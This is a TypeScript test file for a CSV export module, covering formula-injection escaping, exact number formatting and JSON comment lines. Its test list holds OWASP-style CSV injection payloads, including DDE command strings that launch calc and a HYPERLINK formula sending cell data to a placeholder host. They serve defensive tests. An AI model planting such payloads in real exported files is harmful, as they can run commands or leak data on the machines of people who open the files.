import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { commentLine, csvCell, csvDocument, csvRow, formatNumber, spreadsheetSafeJson } from "./csv";

// The payloads are the examples of OWASP's "CSV Injection" page (from memory of that page), plus
// the tab and carriage return it lists as formula starts.
const PAYLOADS = [
  "=1+1",
  '=HYPERLINK("http://example.invalid?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "-",
  "+",
  "@",
  "=",
];

/** How a spreadsheet sees one cell after CSV unquoting: a formula when it starts so and is not a number. */
const readsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell));

describe("csvCell", () => {
  it("puts an apostrophe before every OWASP formula payload, and a CSV parser gives the escaped text back", () => {
    for (const payload of PAYLOADS) {
      const line = csvRow(["label", payload, 1]);
      // csv-parse: an independent RFC 4180 reader.
      const [record] = parse(line, { relax_column_count: false }) as string[][];
      expect(record, JSON.stringify(payload)).toEqual(["label", `'${payload}`, "1"]);
      expect(readsAsFormula(record[1])).toBe(false);
    }
  });

  it("leaves numbers written as text alone, negative and signed ones included", () => {
    for (const n of ["-3.5", "+1e5", "-0.25E-3", "-.5", "12", "-7."]) expect(csvCell(n)).toBe(n);
  });

  it("leaves text that does not start with a formula character alone, quoting only for , \" and line breaks", () => {
    expect(csvCell("dsigma/dOmega")).toBe("dsigma/dOmega");
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell("a, b")).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
    expect(csvCell(null)).toBe("");
  });

  it("any text reads back through csv-parse as itself or as itself after one apostrophe, never as a formula", () => {
    const text = fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", ",", '"', "'", "a", "1", ".", "e", " ") });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (cells) => {
        const [record] = parse(csvRow(["x", ...cells]), { relax_column_count: false }) as string[][];
        cells.forEach((cell, i) => {
          const got = record[i + 1];
          expect(got === cell || got === `'${cell}`).toBe(true);
          expect(readsAsFormula(got)).toBe(false);
        });
      }),
      { numRuns: 500 },
    );
  });
});

describe("formatNumber", () => {
  it("prints every finite double so that it reads back bit for bit", () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (v) => {
        const back = Number(formatNumber(v));
        expect(Object.is(back, v) || (v === 0 && back === 0)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it("keeps the digits that a fixed precision would lose", () => {
    // 0.1 + 0.2 is 0.30000000000000004 in binary64 (IEEE 754); 17 significant digits are needed.
    expect(Number(formatNumber(0.1 + 0.2))).toBe(0.1 + 0.2);
    expect(formatNumber(0.1 + 0.2)).not.toBe("0.3");
    expect(formatNumber(6.02214076e23)).toBe("6.02214076e+23");
  });

  it("refuses NaN and infinities rather than writing text into a number column", () => {
    expect(() => formatNumber(Number.NaN)).toThrow(/finite/);
    expect(() => formatNumber(Number.POSITIVE_INFINITY)).toThrow(/finite/);
    expect(() => csvRow([1, Number.NEGATIVE_INFINITY])).toThrow(/finite/);
  });
});

describe("comment lines", () => {
  /** The cells a spreadsheet would make of a line: split at every comma, one layer of quotes removed. */
  const spreadsheetCells = (line: string) => line.split(",").map((piece) => piece.replace(/^"/, ""));

  it("give JSON that parses back to the same value and that no spreadsheet cell of can start a formula", () => {
    const hostile = fc.string({ unit: fc.constantFrom("=", "+", "-", "@", ",", '"', "\\", "\t", "\r", "\n", "a", "1", " ") });
    const value = fc.letrec((tie) => ({
      node: fc.oneof(
        { depthSize: "small" },
        hostile,
        fc.double({ noNaN: true, noDefaultInfinity: true }),
        fc.boolean(),
        fc.constant(null),
        fc.array(tie("node"), { maxLength: 4 }),
        fc.dictionary(hostile, tie("node"), { maxKeys: 4 }),
      ),
    })).node;
    fc.assert(
      fc.property(value, (v) => {
        const json = spreadsheetSafeJson(v);
        expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(v)));
        const line = commentLine("parameters", v);
        expect(line.startsWith("# parameters: ")).toBe(true);
        expect(line).not.toMatch(/[\r\n]/);
        for (const cell of spreadsheetCells(line)) {
          // JSON's own numbers (e.g. ",-2]") are numbers to a spreadsheet, never a formula call.
          if (/^-\d/.test(cell)) continue;
          expect(readsAsFormula(cell), `${cell} in ${line}`).toBe(false);
        }
      }),
      { numRuns: 500 },
    );
  });

  it("hide a payload in a dataset name from a spreadsheet", () => {
    const line = commentLine("dataset", 'A, =HYPERLINK("http://example.invalid")');
    expect(line).toBe('# dataset: "A\\u002c =HYPERLINK(\\"http://example.invalid\\")"');
    expect(JSON.parse(line.slice("# dataset: ".length))).toBe('A, =HYPERLINK("http://example.invalid")');
  });

  it("are skipped by a reader told that '#' starts a comment", () => {
    const doc = csvDocument([commentLine("dataset", "synthetic, A"), csvRow(["x [deg]", "y [ub/sr]"]), csvRow([1, -2.5])]);
    expect(doc.endsWith("\r\n")).toBe(true);
    expect(parse(doc, { comment: "#", comment_no_infix: true })).toEqual([
      ["x [deg]", "y [ub/sr]"],
      ["1", "-2.5"],
    ]);
  });
});
